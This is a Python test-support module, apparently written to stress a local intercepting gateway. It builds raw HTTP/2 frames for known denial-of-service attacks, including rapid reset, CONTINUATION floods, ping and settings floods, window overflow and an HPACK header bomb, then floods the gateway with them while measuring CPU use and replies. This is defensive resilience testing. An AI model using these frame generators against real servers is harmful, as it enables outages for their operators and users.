"""HTTP/2 as an attacker writes it: frames that no client library would send, in one go.

    outcome = flood(gateway, rapid_resets(20_000))

Each attack is bytes, made beforehand, so that sending them costs the attacker next to nothing; `flood` opens a tunnel at the
intercept door, where HTTP/2 is spoken, and sends them while it reads.  Numbers in brackets are sections of RFC 9113.
"""

import select
import ssl
import time
from collections.abc import Iterator
from dataclasses import dataclass, field

import hpack
from hyperframe import frame as frames
from support.gateway import Gateway
from support.h2_client import H2Client

from ordeal.load import Meter

HOST = "api.openai.com"
MOST_STREAM = 2**31 - 1
WINDOW = 65535
FRAME_BYTES = 16384


@dataclass
class Outcome:
    """What came of an attack."""

    closed: bool = False
    """The gateway ended the connection."""
    goaway: frames.GoAwayFrame | None = None
    statuses: dict[int, int] = field(default_factory=dict)
    """Stream -> what it was answered."""
    sent_bytes: int = 0
    seconds: float = 0.0
    gateway_cpu_s: float = 0.0
    client_cpu_s: float = 0.0

    @property
    def requests_taken(self) -> int | None:
        """How many requests the gateway had looked at when it gave up (6.8)."""
        return None if self.goaway is None else (self.goaway.last_stream_id + 1) // 2


def head(
    method: str = "POST", path: str = "/v1/chat/completions", fields: list[tuple[str, str]] | None = None
) -> bytes:
    """Return a header block that does not depend on what was sent before it."""
    given = [(":method", method), (":scheme", "https"), (":authority", HOST), (":path", path), *(fields or [])]
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*pair) for pair in given])


def headers(stream: int, block: bytes, *, end_stream: bool = False, end_headers: bool = True) -> bytes:
    frame = frames.HeadersFrame(stream, data=block)
    if end_headers:
        frame.flags.add("END_HEADERS")
    if end_stream:
        frame.flags.add("END_STREAM")
    return frame.serialize()


def block_in_frames(stream: int, block: bytes, *, end_stream: bool) -> bytes:
    """Return a header block of any length as HEADERS and CONTINUATION."""
    pieces = [block[start : start + FRAME_BYTES] for start in range(0, len(block), FRAME_BYTES)]
    raw = headers(stream, pieces[0], end_stream=end_stream, end_headers=len(pieces) == 1)
    for number, piece in enumerate(pieces[1:], 2):
        frame = frames.ContinuationFrame(stream, data=piece)
        if number == len(pieces):
            frame.flags.add("END_HEADERS")
        raw += frame.serialize()
    return raw


def _streams(count: int, first: int = 1) -> Iterator[int]:
    return iter(range(first, first + 2 * count, 2))


# -- what makes the gateway work without asking anything of it ----------------------------------------------------------


def rapid_resets(count: int, first: int = 1) -> bytes:
    """Requests that are cancelled at once (CVE-2023-44487)."""
    block = head()
    cancel = [frames.RstStreamFrame(stream, error_code=8).serialize() for stream in _streams(count, first)]
    return b"".join(
        headers(stream, block) + reset for stream, reset in zip(_streams(count, first), cancel, strict=True)
    )


def overflowing_windows(count: int) -> bytes:
    """Requests whose window is raised above the most, which makes the gateway reset them (6.9.1; CVE-2025-8671)."""
    block = head()
    return b"".join(
        headers(stream, block) + frames.WindowUpdateFrame(stream, window_increment=MOST_STREAM).serialize()
        for stream in _streams(count)
    )


def data_after_the_end(count: int) -> bytes:
    """Requests that go on after their end, which makes the gateway reset them (5.1; CVE-2025-8671)."""
    block = head("GET", "/v1/models")
    return b"".join(
        headers(stream, block, end_stream=True) + frames.DataFrame(stream, data=b"x").serialize()
        for stream in _streams(count)
    )


def continuations(count: int) -> bytes:
    """A header block without an end (CVE-2024-27316)."""
    more = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x-a", "b")])
    raw = frames.ContinuationFrame(1, data=more).serialize()
    return headers(1, head(), end_headers=False) + raw * count


def empty_continuations(count: int) -> bytes:
    """As `continuations`, with nothing in them: no limit on bytes is ever reached."""
    return headers(1, head(), end_headers=False) + frames.ContinuationFrame(1).serialize() * count


def pings(count: int) -> bytes:
    """Frames that must be answered (6.7; CVE-2019-9512)."""
    return frames.PingFrame(0, opaque_data=b"ordeal..").serialize() * count


def settings(count: int) -> bytes:
    """Frames that must be answered, each changing something (6.5; CVE-2019-9515)."""
    pair = b"".join(
        frames.SettingsFrame(0, settings={frames.SettingsFrame.INITIAL_WINDOW_SIZE: size}).serialize()
        for size in (WINDOW, WINDOW + 1)
    )
    return pair * (count // 2)


def empty_data(count: int) -> bytes:
    """A body that never gets longer (CVE-2019-9518)."""
    return headers(1, head()) + frames.DataFrame(1).serialize() * count


def header_bomb(entry_bytes: int, repeats: int, path: str = "/v1/models") -> bytes:
    """A request whose head is `entry_bytes * repeats` long once it is decoded, and little more than `entry_bytes` on the wire.

    One field goes to the dynamic table; each repetition of it is one byte (RFC 7541, 6.1: index 62 is the newest entry).
    """
    entry = b"\x40" + _text(b"x-bomb") + _text(b"a" * (entry_bytes - len("x-bomb")))
    return block_in_frames(1, head("GET", path) + entry + b"\xbe" * (repeats - 1), end_stream=True)


def _text(raw: bytes) -> bytes:
    """Return a string as HPACK has it, not compressed (RFC 7541, 5.2)."""
    return bytes(hpack.hpack.encode_integer(len(raw), 7)) + raw


# -- sending -------------------------------------------------------------------------------------------------------------


def flood(gateway: Gateway, raw: bytes, within_s: float = 20.0, *, answers: int = 1 << 30) -> Outcome:
    """Send bytes on a new connection while reading it, until the gateway has ended it or given so many answers, or for so
    long."""
    meter, outcome = Meter(gateway.process.pid), Outcome()
    cpu_s, own_s, began = meter.cpu_s(), time.thread_time(), time.monotonic()
    with H2Client.through_tunnel(gateway, HOST) as client:
        _exchange(client.socket, raw, began + within_s, outcome, answers)
    outcome.seconds = time.monotonic() - began
    outcome.client_cpu_s = time.thread_time() - own_s
    outcome.gateway_cpu_s = meter.cpu_s() - cpu_s
    return outcome


def _exchange(connection: ssl.SSLSocket, raw: bytes, deadline: float, outcome: Outcome, answers: int) -> None:
    connection.setblocking(False)
    got, left = bytearray(), memoryview(raw)
    while time.monotonic() < deadline:
        select.select([connection], [connection] if left else [], [], 0.05)
        try:
            while left:
                sent = connection.send(left[:65536])
                left, outcome.sent_bytes = left[sent:], outcome.sent_bytes + sent
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:  # cut off while sending; what the gateway said before may still be there
            left = memoryview(b"")
        try:
            while data := connection.recv(65536):
                got += data
            outcome.closed = True
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            outcome.closed = True
        _look(got, outcome)
        if outcome.closed or len(outcome.statuses) >= answers:
            return


def _look(got: bytearray, outcome: Outcome) -> None:
    """Take whole frames out of what was read."""
    decoder = hpack.Decoder()
    while len(got) >= 9:
        frame, length = frames.Frame.parse_frame_header(memoryview(got)[:9])
        if len(got) < 9 + length:
            return
        frame.parse_body(memoryview(bytes(got[9 : 9 + length])))
        del got[: 9 + length]
        if isinstance(frame, frames.GoAwayFrame):
            outcome.goaway = outcome.goaway or frame
        elif isinstance(frame, frames.HeadersFrame):
            outcome.statuses[frame.stream_id] = _status(decoder, frame.data)


def _status(decoder: hpack.Decoder, block: bytes) -> int:
    fields = dict(decoder.decode(block))
    return int(fields.get(":status", fields.get(b":status", 0)))
